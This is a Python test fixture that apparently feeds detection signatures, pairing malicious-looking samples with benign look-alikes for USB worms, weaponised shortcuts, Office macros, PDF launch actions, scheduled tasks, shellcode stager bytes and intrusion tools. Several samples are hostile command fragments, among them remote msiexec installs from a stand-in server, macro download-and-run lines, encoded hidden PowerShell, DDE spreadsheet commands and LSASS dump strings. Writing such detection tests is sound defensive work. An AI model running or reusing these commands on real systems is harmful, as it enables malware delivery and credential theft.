"""Samples of the rules on sticks, documents that bring an attack in, and programs of an intrusion."""

from tests.signatures.pieces import OLD_OFFICE, SHORTCUT, program, whole


def shortcut(text: str) -> bytes:
    return SHORTCUT + bytes(300) + whole(text).encode("utf-16-le") + bytes(40)


def text(content: str) -> bytes:
    return whole(content).encode("utf-8")


def disc(*names: bytes) -> bytes:
    return bytes(32769) + b"CD001" + bytes(2000) + b"\0".join(names) + bytes(100) + SHORTCUT


def driver(*names: str) -> bytes:
    return program("ntoskrnl.exe", *names)


MACRO = 'Attribute VB_Name = "Module1"\r\nSub Auto¤Open()\r\n'
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="x"><Relationship Type="http://x/relationships/{}" '
    'Target="{}" TargetMode="Ext¤ernal"/></Relationships>'
)
TASK = (
    '<?xml version="1.0"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Exec>'
    "<Command>{}</Command><Arguments>{}</Arguments></Exec></Task>"
)
DISC_NAMES = (whole("FACTURE.L¤NK;1").encode(), b"A.DLL;1")
STAGER = "fc4883e4f0" + "e8c0000000" + "41514150" + "5251564831d2"
BEACON = "69686968696b6968" + "696b69686" + "96b1234696a696b696d"

# By rule: what it must match, then what it must not.
SAMPLES: dict[str, tuple[bytes, bytes]] = {
    "Trousse_Stick_Autorun_Hidden_Program": (
        text("[auto¤run]\r\nop¤en=RECYC¤LER\\a.exe\r\n"),
        text("[autorun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\n"),
    ),
    "Trousse_Stick_Shortcut_Worm": (
        shortcut("/c st¤art wscr¤ipt a.vbs&st¤art expl¤orer Photos&exit"),
        shortcut("C:\\Windows\\explorer.exe Photos"),
    ),
    "Trousse_Stick_Shortcut_Msiexec": (
        shortcut("/R m¤SiexEc /q /i ht¤tp://serveur.example:8080/a"),
        shortcut("C:\\Windows\\msiexec.exe /i D:\\agenda.msi"),
    ),
    "Trousse_Stick_Script_Worm": (
        text(
            'Set s = CreateObject("Scr¤ipting.FileS¤ystemObject")\r\nFor Each d In s.Dr¤ives\r\n'
            "s.CopyF¤ile WScr¤ipt.ScriptF¤ullName, d\r\nf.Attr¤ibutes = 2\r\n"
        ),
        text('Set s = CreateObject("Scripting.FileSystemObject")\r\ns.CopyFile "a", "b"\r\n'),
    ),
    "Trousse_Stick_Program_Worm": (
        program("E:\\aut¤orun.inf", "[aut¤orun]", "shell\\open\\comm¤and=", "GetDriveType"),
        program("E:\\autorun.inf", "[autorun]", "icon="),
    ),
    "Trousse_Stick_Disc_Image_Delivers": (disc(*DISC_NAMES), disc(b"LISEZMOI.TXT;1", b"A.DLL;1")),
    "Trousse_Shortcut_Poses_As_Document": (
        shortcut("C:\\Windows\\System32\\cmd.e¤xe\0 /c a.b¤at\0C:\\Office\\wordi¤con.exe\0"),
        shortcut("C:\\Office\\winword.exe\0 /n\0C:\\Office\\wordicon.exe\0"),
    ),
    "Trousse_Shortcut_Coded_Command": (
        shortcut("C:\\Windows\\p¤owershell.exe\0 -w hidden -enc SQBF¤AFgA\0"),
        shortcut("C:\\Windows\\powershell.exe\0 -WindowStyle Hidden -File C:\\Outils\\Sauvegarde.ps1\0"),
    ),
    "Trousse_Shortcut_Remote_Icon": (
        shortcut("C:\\a.txt\0\\\\192.0.2.7\\partage\\a.ico\0"),
        shortcut("C:\\a.txt\0\\\\192.168.1.7\\partage\\a.ico\0"),
    ),
    "Trousse_Internet_Shortcut_Runs_Remote": (
        text("[InternetShortcut]\r\nURL=fi¤le://serveur.example@80/a/b.e¤xe\r\n"),
        text("[InternetShortcut]\r\nURL=https://serveur.example/a\r\n"),
    ),
    "Trousse_Hta_Hidden_Start": (
        text('<script>new ActiveXObj¤ect("WScr¤ipt.Shell").R¤un("cmd /¤c dir");window.cl¤ose();</script>'),
        text("<script>window.close();</script>"),
    ),
    "Trousse_Html_Carries_Archive": (
        text(
            "<script>var a=at¤ob('UEs¤DBA" + "A" * 420 + "');var u=URL.createObj¤ectURL(a);l.downl¤oad='a';"
        ),
        text("<script>var u=URL.createObjectURL(a);l.download='a';</script>"),
    ),
    "Trousse_Macro_Source_Runs_Command": (
        text(MACRO + 'CreateObject("WScr¤ipt.Shell").R¤un "calc"\r\n'),
        text(MACRO + "ActiveDocument.PrintOut\r\n"),
    ),
    "Trousse_Macro_Source_Fetches_Program": (
        text(MACRO + 'URLDown¤loadToFile 0, a, "b.exe", 0, 0\r\nSh¤ell "b.exe"\r\n'),
        text(MACRO + 'Shell "b.exe"\r\n'),
    ),
    "Trousse_Sheet_Old_Macro_Runs": (
        OLD_OFFICE + text("Excel 4.0 Mac¤ros\0\0\0r¤egsvr32"),
        OLD_OFFICE + b"Excel 4.0 Macros\0\0\0",
    ),
    "Trousse_Office_Outside_Template": (
        text(RELATIONS.format("attachedTempl¤ate", "http://serveur.example/a.dotm")),
        text(RELATIONS.format("attachedTemplate", "file:///C:/Modeles/ordonnance.dotm")),
    ),
    "Trousse_Office_Outside_Object": (
        text(RELATIONS.format("oleObj¤ect", "http://serveur.example/a.html!")),
        text(RELATIONS.format("hyperlink", "http://serveur.example/a.html")),
    ),
    "Trousse_Sheet_Or_Text_Runs_Command": (
        text("nom;=cm¤d|'/c calc'!A0;2\r\n"),
        text("nom;=somme(A1:A3);cmd\r\n"),
    ),
    "Trousse_Pdf_Starts_Program": (
        text("%PDF-1.4\n1 0 obj<</S/Lau¤nch/Win<</F(cm¤d.exe)/P(/c dir)>>>>"),
        text("%PDF-1.4\n1 0 obj<</S/URI/URI(https://serveur.example)>>"),
    ),
    "Trousse_Task_Runs_Hidden_Command": (
        text(TASK.format("power¤shell.exe", "-nop -c ht¤tps://serveur.example/a")),
        text(TASK.format("powershell.exe", "-File C:\\Sauvegarde\\copie.ps1")),
    ),
    "Trousse_Intrusion_Beacon_Settings": (bytes.fromhex(BEACON), bytes.fromhex(BEACON[:24])),
    "Trousse_Intrusion_Shellcode_Stager": (bytes.fromhex(STAGER), bytes.fromhex(STAGER[:24]) + bytes(20)),
    "Trousse_Intrusion_Remote_Kit": (
        program("github.com/bish¤opfox/sliver/prot¤obuf/a"),
        program("see github.com/bishopfox"),
    ),
    "Trousse_Intrusion_Remote_Trojan": (
        program("Qua¤sar.Client.a", "Qua¤sar.Common.Mess¤ages.a"),
        program("Quasar", "Pastebin"),
    ),
    "Trousse_Intrusion_Password_Dumper": (program("nano¤dump", "min¤idump", wide=True), program("minidump")),
    "Trousse_Intrusion_Password_Memory": (
        text("MDMP") + whole("C:\\ls¤ass.exe\0C:\\ls¤asrv.dll\0").encode("utf-16-le"),
        text("MDMP") + "C:\\agenda.exe\0".encode("utf-16-le"),
    ),
    "Trousse_Intrusion_Safe_Mode": (
        program("bcde¤dit /set {current} safeb¤oot network"),
        program("bcdedit /deletevalue safeboot"),
    ),
    "Trousse_Intrusion_Wipes_Free_Space": (
        program("ciph¤er /w:C:", wide=True),
        program("CIPHER /W:directory", wide=True),
    ),
    "Trousse_Intrusion_Protection_Killer": (
        program("\\\\.\\RTCo¤re64", "MsMpEng.exe", "ekrn.exe", "DeviceIoControl"),
        program("\\\\.\\RTCore64", "DeviceIoControl"),
    ),
    "Trousse_Tool_Remote_Support": (program("Nanosystems S.r.l.", wide=True), program("Supremo")),
    "Trousse_Tool_Remote_Management": (program("github.com/amidaware/rmmagent"), program("Syncro")),
    "Trousse_Tool_Plink": (program("Simon Tatham", "PuTTY suite"), program("Simon Tatham")),
    "Trousse_Tool_Reverse_Tunnel": (program("github.com/ginuerzh/gost"), program("gost")),
    "Trousse_Tool_Filezilla": (program("FileZilla FTP Client", "Tim Kosse"), program("FileZilla")),
    "Trousse_Tool_Restic": (
        program("github.com/restic/restic/internal/", "github.com/restic/restic/cmd/restic"),
        program("restic"),
    ),
    "Trousse_Tool_Cloud_Copy": (program("github.com/peak/s5cmd"), program("s5cmd")),
    "Trousse_Tool_Share_Survey": (program("Sharp¤Shares", wide=True), program("Shares")),
    "Trousse_Tool_Domain_Audit": (program("PingCastle.Healthcheck"), program("PingCastle")),
    "Trousse_Tool_Network_Attack": (program("ropn¤op/kerbrute"), program("kerbrute")),
    "Trousse_Tool_Rootkit_Remover": (program("TDSS¤Killer", "Kaspersky", wide=True), program("Kaspersky")),
    "Trousse_Tool_Abused_Driver": (
        driver("\\Device\\RTCore64"),
        driver("\\Device\\RTCore640"),
    ),
}
